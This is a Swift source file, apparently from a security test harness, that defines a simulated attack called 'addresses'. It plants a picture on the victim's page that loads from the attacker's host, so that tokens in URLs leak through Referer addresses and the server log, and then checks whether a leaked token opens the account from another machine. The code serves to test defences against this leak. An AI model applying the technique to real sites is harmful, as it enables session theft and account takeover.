extension Attack {
    static let addresses = Attack(
        name: "addresses", title: "Read the addresses in the server's log", family: .theft,
        page: PackageResources.addresses_md
    ) { scene in
        scene.target.pages[scene.host].picture = "\(scene.attackerOrigin)/loot/\(scene.name)"
        try await scene.logIn()
        var gotIn = false
        // The token that the page holds may be at its end: then there is nothing to be had until the next.
        for _ in 0..<3 where !gotIn {
            try await scene.openStatement()
            let log = scene.target.log.of(host: scene.host).map(\.address)
            var thief = Thief(scene, loot: (log + scene.attacker.loot(of: scene.name)).joined(separator: "\n"))
            gotIn = try await thief.readsSecret()
        }
        let referers = Set(scene.attacker.loot(of: scene.name)).filter { !$0.isEmpty }
        return .of(
            gotIn,
            [
                gotIn ? "a token in the log opened the account from another machine" : "no address held a token",
                "the picture on the statement told the attacker's host: "
                    + (referers.isEmpty ? "no address" : referers.sorted().joined(separator: ", ")),
            ])
    }
}

extension Scene {
    /// The victim looks at their statement, in a frame of the page.
    fileprivate func openStatement() async throws {
        let before = served("/api/statement")
        try await browser.click("#statement")
        try await wait("the statement, with its picture") {
            served("/api/statement") > before && !attacker.loot(of: name).isEmpty
        }
    }

    private func served(_ path: String) -> Int {
        requests("GET", path).count { $0.status == 200 }
    }
}
